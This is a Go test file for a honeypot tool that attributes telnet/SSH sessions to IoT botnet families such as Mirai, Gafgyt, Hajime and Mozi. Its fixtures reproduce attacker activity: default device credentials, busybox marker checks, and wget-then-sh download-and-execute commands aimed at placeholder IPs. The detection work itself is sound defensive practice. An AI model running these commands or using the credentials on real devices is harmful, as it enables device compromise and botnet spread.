package attrib

import (
	"strings"
	"testing"
)

func TestDefaultRulesParse(t *testing.T) {
	r := Default()
	if r.Len() < 10 {
		t.Fatalf("default rules: %d rules", r.Len())
	}
}

func TestParseErrors(t *testing.T) {
	cases := map[string]string{
		"no evidence":    "rules:\n- {id: a, family: x, weight: 1, reason: r}\n",
		"two evidences":  "rules:\n- {id: a, family: x, weight: 1, reason: r, ports: [1], input: 'a'}\n",
		"bad regex":      "rules:\n- {id: a, family: x, weight: 1, reason: r, input: '('}\n",
		"bad port":       "rules:\n- {id: a, family: x, weight: 1, reason: r, ports: [70000]}\n",
		"bad cred":       "rules:\n- {id: a, family: x, weight: 1, reason: r, credentials: [nocolon]}\n",
		"unknown field":  "rules:\n- {id: a, family: x, weight: 1, reason: r, ports: [1], colour: red}\n",
		"dup id":         "rules:\n- {id: a, family: x, weight: 1, reason: r, ports: [1]}\n- {id: a, family: x, weight: 1, reason: r, ports: [2]}\n",
		"unknown family": "rules:\n- {id: a, family: unknown, weight: 1, reason: r, ports: [1]}\n",
	}
	for name, doc := range cases {
		if _, err := Parse([]byte(doc)); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

func observeAll(tr *Tracker, obs ...Observation) {
	for _, o := range obs {
		tr.Observe(o)
	}
}

func TestMiraiLoader(t *testing.T) {
	tr := Default().NewTracker()
	if tr.Family() != Unknown {
		t.Fatal("new tracker not unknown")
	}
	observeAll(tr,
		Observation{Port: 23},
		Observation{Login: true, Username: "root", Password: "xc3511"},
	)
	// A credential is a hint: SSH crawlers share Mirai's table.
	if tr.Family() != Unknown || tr.Hint() != "mirai" || len(tr.Reasons()) != 1 || !strings.HasPrefix(tr.Reasons()[0], "hint mirai-credentials") {
		t.Fatalf("after Mirai credential: %s hint %q reasons %q", tr.Family(), tr.Hint(), tr.Reasons())
	}
	observeAll(tr,
		Observation{Input: "/bin/busybox ECCHI"}, Observation{Marker: "ECCHI"},
		Observation{Input: `/bin/busybox echo -e '\x6b\x61\x6d\x69' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon`},
		Observation{URL: "http://203.0.113.9:80/bins/mirai.arm7"},
	)
	// Five: the credential hint, the marker once (not again as a variant's
	// made-up applet), the echo check, .nippon and the URL.
	if tr.Family() != "mirai" || len(tr.Reasons()) != 5 {
		t.Fatalf("family %s reasons %q", tr.Family(), tr.Reasons())
	}
	if !strings.Contains(strings.Join(tr.Reasons(), "\n"), "mirai-binary-url") {
		t.Errorf("reasons miss the URL rule: %q", tr.Reasons())
	}
}

func TestSatoriOverridesMiraiCredential(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Login: true, Username: "root", Password: "vizxv"},
		Observation{Input: "/bin/busybox SATORI"}, Observation{Marker: "SATORI"},
	)
	if tr.Family() != "satori" {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

func TestHajime(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Port: 5358},
		Observation{Login: true, Username: "admin", Password: "admin"},
		Observation{Input: "/bin/busybox ECCHI"}, Observation{Marker: "ECCHI"},
		Observation{Input: `echo -ne "\x7f\x45\x4c\x46\x01\x01\x01" > .s`},
		Observation{Input: "./.s>.i; chmod +x .i; ./.i; exit"},
	)
	if tr.Family() != "hajime" {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

func TestObserveReportsChangesOnly(t *testing.T) {
	tr := Default().NewTracker()
	if tr.Observe(Observation{Input: "ls"}) {
		t.Error("ls changed the family")
	}
	// The device reports "/bin/busybox MIRAI" as the marker MIRAI.
	if !tr.Observe(Observation{Marker: "MIRAI"}) {
		t.Error("MIRAI check did not change the family")
	}
	if tr.Observe(Observation{Marker: "MIRAI"}) {
		t.Error("the same rule counted twice")
	}
}

func TestGafgyt(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Login: true, Username: "root", Password: "root"},
		Observation{Input: `/bin/busybox;echo -e '\147\141\171\146\147\164'`},
		Observation{Input: "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://192.0.2.10/bins.sh; chmod 777 bins.sh; sh bins.sh"},
	)
	if tr.Family() != "gafgyt" {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

func TestMozi(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Login: true, Username: "admin", Password: "admin"},
		Observation{Input: "/bin/busybox wget http://192.0.2.11:44411/Mozi.m -O /tmp/netgear; sh /tmp/netgear"},
		Observation{URL: "http://192.0.2.11:44411/Mozi.m"},
	)
	if tr.Family() != "mozi" {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

// A session that only logs in with a credential outside every table and
// runs ordinary commands stays unknown.
func TestUnknownStaysUnknown(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Port: 23},
		Observation{Login: true, Username: "operator", Password: "s3cret"},
		Observation{Input: "uname -a; cat /proc/cpuinfo"},
		Observation{URL: "http://192.0.2.12/update.sh"},
	)
	if tr.Family() != Unknown || tr.Reasons() != nil {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
}

// Markers in any case and made-up tokens are Mirai's check; Qbot and
// Satori keep their own.
func TestMarkerVariants(t *testing.T) {
	for marker, want := range map[string]string{
		"ECCHI": "mirai", "ecchi": "mirai", "MiRaI": "mirai", "KISOC": "mirai", "killme": "mirai", "xKqZt": "mirai",
		"Qbotv3": "gafgyt", "okiru": "satori", "SATORI": "satori",
	} {
		tr := Default().NewTracker()
		tr.Observe(Observation{Marker: marker})
		if tr.Family() != want {
			t.Errorf("marker %s: %s, want %s (%q)", marker, tr.Family(), want, tr.Reasons())
		}
	}
	tr := Default().NewTracker()
	tr.Observe(Observation{Input: `echo -ne '\x6B\x61\x6D\x63' > .m`})
	if tr.Family() != "mirai" || len(tr.Reasons()) != 2 {
		t.Errorf("kamc to .m: %s %q", tr.Family(), tr.Reasons())
	}
}

// The .s loaders of 2019 and later are told apart from Hajime (2016),
// although both start with "cat .s || cp /bin/echo .s".
func TestSLoaderIsNotHajime(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr,
		Observation{Input: "cat /proc/mounts; /bin/busybox KISOC"},
		Observation{Marker: "KISOC"},
		Observation{Input: "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox KISOC"},
		Observation{Input: "tftp; wget; /bin/busybox KISOC"},
		Observation{Input: "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s"},
	)
	if tr.Family() != "mirai" || !strings.Contains(strings.Join(tr.Reasons(), "\n"), "sloader-dd-header") {
		t.Fatalf("got %s %q", tr.Family(), tr.Reasons())
	}
	// Hajime's own dialogue (Rapidity Networks, 2016).
	tr = Default().NewTracker()
	observeAll(tr,
		Observation{Input: "cd /var; cat .s || cp /bin/echo .s; /bin/busybox ECCHI"},
		Observation{Input: "/bin/busybox chmod 777 .s; /bin/busybox ECCHI"},
		Observation{Input: "cp .s .i; >.i; ./.s>.i; ./.i; rm .s; /bin/busybox ECCHI"},
	)
	if tr.Family() != "hajime" {
		t.Fatalf("Hajime: got %s %q", tr.Family(), tr.Reasons())
	}
}

// Hints alone (a worm's password on its port) leave a session unknown.
func TestHintsAlone(t *testing.T) {
	tr := Default().NewTracker()
	observeAll(tr, Observation{Port: 23}, Observation{Login: true, Username: "root", Password: "vizxv"}, Observation{Input: "uname -a"})
	if tr.Family() != Unknown || tr.Hint() != "mirai" || len(tr.Reasons()) != 1 {
		t.Fatalf("got %s hint %q reasons %q", tr.Family(), tr.Hint(), tr.Reasons())
	}
}

// TestLoginsByProtocol: a count of logins names a different guesser on SMB
// and on telnet or SSH, and none where the protocol is not known.
func TestLoginsByProtocol(t *testing.T) {
	logins := []Observation{
		{Login: true, Username: "root", Password: "wrong"},
		{Login: true, Username: "admin", Password: "nimda"},
		{Login: true, Username: "guest", Password: "12345"},
	}
	for proto, want := range map[string]string{"smb": "smb-bruteforce", "telnet": "bruteforce", "ssh": "bruteforce", "": Unknown, "iot-http": Unknown} {
		tr := Default().NewTracker()
		observeAll(tr, append([]Observation{{Port: 2323, Proto: proto}}, logins...)...)
		if tr.Family() != want {
			t.Errorf("proto %q: family %s %q, want %s", proto, tr.Family(), tr.Reasons(), want)
		}
	}
	// A family's behaviour outscores the guesser.
	tr := Default().NewTracker()
	observeAll(tr, append([]Observation{{Port: 23, Proto: "telnet"}}, logins...)...)
	observeAll(tr, Observation{Marker: "ECCHI"})
	if tr.Family() != "mirai" {
		t.Errorf("guesser then Mirai's marker: %s %q", tr.Family(), tr.Reasons())
	}
}

// TestParseProtocols: the protocols condition takes the sensors' names only.
func TestParseProtocols(t *testing.T) {
	if _, err := Parse([]byte("rules:\n- {id: a, family: x, weight: 1, reason: r, logins: 3, protocols: [smb, telnet]}\n")); err != nil {
		t.Fatal(err)
	}
	_, err := Parse([]byte("rules:\n- {id: a, family: x, weight: 1, reason: r, logins: 3, protocols: [smbb]}\n"))
	if err == nil || !strings.Contains(err.Error(), `"smbb" is not a sensor protocol`) || !strings.Contains(err.Error(), "telnet, ssh, smb, iot-http") {
		t.Fatalf("bad protocol: %v", err)
	}
}

// TestMarkerCountedOnce: the variants' catch-all marker rule stands aside
// for a marker another rule counts, so MIRAI scores +4 once, not +4 and +2,
// and SATORI gives Mirai nothing; a token no rule names still counts.
func TestMarkerCountedOnce(t *testing.T) {
	for marker, want := range map[string]string{
		"MIRAI": "mirai-applet-check (+4)", "ECCHI": "mirai-applet-check (+4)", "ihcce": "mirai-applet-check (+4)",
		"SATORI": "satori-applet-check (+6)", "Qbotv3": "", "KISOC": "mirai-variant-applet-check (+2)",
	} {
		tr := Default().NewTracker()
		tr.Observe(Observation{Port: 23, Proto: "telnet"})
		tr.Observe(Observation{Marker: marker})
		got := strings.Join(tr.Reasons(), "\n")
		if want != "" && (len(tr.Reasons()) != 1 || !strings.HasPrefix(got, want)) {
			t.Errorf("%s: reasons %q, want one: %s", marker, tr.Reasons(), want)
		}
		if marker != "KISOC" && strings.Contains(got, "mirai-variant-applet-check") {
			t.Errorf("%s: counted again by the variant rule: %q", marker, got)
		}
	}
	// The catch-all still counts once beside a named marker in the same session.
	tr := Default().NewTracker()
	observeAll(tr, Observation{Marker: "ECCHI"}, Observation{Marker: "KISOC"})
	if len(tr.Reasons()) != 2 {
		t.Errorf("ECCHI then KISOC: %q", tr.Reasons())
	}
}

// TestParseFallback: fallback is a flag on any rule; it parses.
func TestParseFallback(t *testing.T) {
	r, err := Parse([]byte("rules:\n- {id: named, family: x, weight: 3, reason: r, marker: '^ABC$'}\n- {id: any, family: y, weight: 1, reason: r, marker: '^[A-Z]+$', fallback: true}\n"))
	if err != nil {
		t.Fatal(err)
	}
	tr := r.NewTracker()
	tr.Observe(Observation{Marker: "ABC"})
	if tr.Family() != "x" {
		t.Errorf("ABC: %s %q", tr.Family(), tr.Reasons())
	}
	tr = r.NewTracker()
	tr.Observe(Observation{Marker: "XYZ"})
	if tr.Family() != "y" {
		t.Errorf("XYZ: %s %q", tr.Family(), tr.Reasons())
	}
}
